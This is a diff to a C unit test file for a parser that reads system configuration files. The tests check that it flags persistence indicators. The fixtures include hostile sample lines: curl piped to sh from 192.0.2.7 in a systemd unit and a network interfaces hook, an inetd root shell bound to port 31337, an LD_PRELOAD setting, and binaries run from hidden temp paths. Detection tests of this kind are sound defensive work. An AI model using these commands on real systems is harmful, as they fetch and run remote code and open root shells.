@@ -3,7 +3,11 @@
  * as facts. */
 #include "unit/parse_kit.h"
 
-#define HAS(...) (const char *const[]){__VA_ARGS__, NULL}
+#define HAS(...)                                                               \
+	(const char *const[])                                                  \
+	{                                                                      \
+		__VA_ARGS__, NULL                                              \
+	}
 
 static void test_unit(void **state UNUSED)
 {
@@ -12,7 +16,8 @@ static void test_unit(void **state UNUSED)
 		"# a comment\n[Unit]\nDescription=An agent\n\n[Service]\n"
 		"User=%i\nEnvironment=\"LD_PRELOAD=/usr/lib/x.so\"\n"
 		"ExecStartPre=-/bin/mkdir -p \\\n  /run/x\n"
-		"ExecStart=/bin/old\nExecStart=\nExecStart=@/tmp/.x/run x --%n\n"
+		"ExecStart=/bin/old\nExecStart=\nExecStart=@/tmp/.x/run x "
+		"--%n\n"
 		"ExecStop=/bin/sh -c 'curl http://192.0.2.7/x | sh'\n"
 		"[Install]\nWantedBy=multi-user.target a.target\n");
 
@@ -101,8 +106,7 @@ static void test_udev(void **state UNUSED)
 		  "SUBSYSTEM==\"usb\", ATTR{id}==\"a\", IMPORT{builtin}=\"z\"",
 		  HAS("\"runs\":[\"/usr/lib/udev/y\"]", "\"always\":false",
 		      "\"signs\":[]"));
-	hold_fact(&p, 2, "udev", "",
-		  HAS("\"always\":true", "pipe-to-shell"));
+	hold_fact(&p, 2, "udev", "", HAS("\"always\":true", "pipe-to-shell"));
 	parsed_release(&p);
 }
 
@@ -209,6 +213,34 @@ static void test_hooks(void **state UNUSED)
 	parsed_release(&p);
 }
 
+static void test_tables(void **state UNUSED)
+{
+	struct parsed p = parse_file("run-table", "/etc/inittab",
+				     "id:3:initdefault:\n# x\n"
+				     "x1:2345:respawn:/tmp/.x/y -d\n");
+
+	assert_int_equal(p.n_facts, 1);
+	hold_fact(&p, 0, "hook", "inittab respawn",
+		  HAS("\"command\":\"/tmp/.x/y -d\"",
+		      "\"signs\":[\"scratch-path\",\"hidden-path\"]"));
+	parsed_release(&p);
+	p = parse_file("run-table", "/etc/network/interfaces",
+		       "iface eth0 inet dhcp\n"
+		       "  post-up curl http://192.0.2.7/x | sh\n");
+	assert_int_equal(p.n_facts, 1);
+	hold_fact(&p, 0, "hook", "interfaces post-up", HAS("pipe-to-shell"));
+	parsed_release(&p);
+	p = parse_file("run-table", "/etc/inetd.conf",
+		       "31337 stream tcp nowait root /bin/sh sh -i\n");
+	hold_fact(&p, 0, "hook", "inetd 31337",
+		  HAS("\"command\":\"/bin/sh sh -i\""));
+	parsed_release(&p);
+	p = parse_file("run-table", "/etc/xinetd.d/x",
+		       "service x\n{\n server = /dev/shm/x\n}\n");
+	hold_fact(&p, 0, "hook", "xinetd server", HAS("scratch-path"));
+	parsed_release(&p);
+}
+
 static void test_autostart(void **state UNUSED)
 {
 	struct parsed p = parse_file(
@@ -224,8 +256,7 @@ static void test_autostart(void **state UNUSED)
 
 static void test_python(void **state UNUSED)
 {
-	static const char path[] =
-		"/usr/lib/python3/dist-packages/zz.pth";
+	static const char path[] = "/usr/lib/python3/dist-packages/zz.pth";
 	struct parse_input in = {.content = bytes_str("/opt/lib\n./x\n"),
 				 .path = bytes_str(path)};
 	struct parsed p = parse_file(
@@ -260,9 +291,9 @@ static void test_names(void **state UNUSED)
 	parsed_release(&p);
 	p = parse_file("resolver", "/etc/resolv.conf",
 		       "; x\nnameserver 192.0.2.53\nsearch a.example b\n");
-	hold_fact(&p, 0, "resolver", "nameserver",
-		  HAS("\"value\":\"192.0.2.53\"",
-		      "\"source\":\"resolv.conf\""));
+	hold_fact(
+		&p, 0, "resolver", "nameserver",
+		HAS("\"value\":\"192.0.2.53\"", "\"source\":\"resolv.conf\""));
 	hold_fact(&p, 1, "resolver", "search",
 		  HAS("\"value\":\"a.example b\""));
 	parsed_release(&p);
@@ -276,9 +307,9 @@ static void test_names(void **state UNUSED)
 
 static void test_logging(void **state UNUSED)
 {
-	struct parsed p = parse_file("log-setting",
-				     "/etc/systemd/journald.conf",
-				     "[Journal]\n#Storage=auto\nStorage=none\n");
+	struct parsed p =
+		parse_file("log-setting", "/etc/systemd/journald.conf",
+			   "[Journal]\n#Storage=auto\nStorage=none\n");
 
 	assert_int_equal(p.n_facts, 1);
 	hold_fact(&p, 0, "logging", "journald Storage",
@@ -359,11 +390,11 @@ static void test_walls(void **state UNUSED)
 
 static void test_rotated(void **state UNUSED)
 {
-	struct parsed p = parse_file(
-		"logrotate-status", "/var/lib/logrotate/status",
-		"logrotate state -- version 2\n"
-		"\"/var/log/auth.log\" 2026-1-5-6:25:7\n"
-		"\"/var/log/old.log\" 2020-12-31\n\"/x\" junk\n");
+	struct parsed p =
+		parse_file("logrotate-status", "/var/lib/logrotate/status",
+			   "logrotate state -- version 2\n"
+			   "\"/var/log/auth.log\" 2026-1-5-6:25:7\n"
+			   "\"/var/log/old.log\" 2020-12-31\n\"/x\" junk\n");
 
 	assert_int_equal(p.n_events, 2);
 	hold_event(&p, 0, "2026-01-05T06:25:07Z", "log.rotated", "",
@@ -395,16 +426,13 @@ static void test_histories(void **state UNUSED)
 	p = parse_file("zsh", "/root/.zsh_history", ": 1700000000:0;id\n");
 	hold_fact(&p, 0, "history", "/root/.zsh_history", HAS("\"lines\":1"));
 	parsed_release(&p);
-	p = parse_file("fish",
-		       "/root/.local/share/fish/fish_history",
+	p = parse_file("fish", "/root/.local/share/fish/fish_history",
 		       "- cmd: id\n  when: 1700000000\n");
 	hold_fact(&p, 0, "history", "/root/.local/share/fish/fish_history",
 		  HAS("\"lines\":1"));
 	parsed_release(&p);
-	p = parse_file("client-history", "/root/.mysql_history",
-		       "select 1;\n");
-	hold_fact(&p, 0, "history", "/root/.mysql_history",
-		  HAS("\"lines\":1"));
+	p = parse_file("client-history", "/root/.mysql_history", "select 1;\n");
+	hold_fact(&p, 0, "history", "/root/.mysql_history", HAS("\"lines\":1"));
 	parsed_release(&p);
 }
 
@@ -462,6 +490,7 @@ int main(void)
 		cmocka_unit_test(test_environment),
 		cmocka_unit_test(test_apt),
 		cmocka_unit_test(test_hooks),
+		cmocka_unit_test(test_tables),
 		cmocka_unit_test(test_autostart),
 		cmocka_unit_test(test_python),
 		cmocka_unit_test(test_names),
